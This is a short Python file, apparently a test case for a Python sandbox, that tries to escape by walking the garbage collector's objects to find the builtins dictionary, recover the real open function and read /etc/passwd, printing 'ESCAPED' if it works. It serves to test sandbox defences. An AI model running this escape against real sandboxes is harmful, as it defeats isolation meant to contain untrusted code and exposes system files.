# tries: the collector hands out every object of the process
# class: import
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import gc

objects = gc.get_objects()
use(lambda path: [o for o in objects if type(o) is dict and "open_code" in o and "open" in o][0]["open"](path))
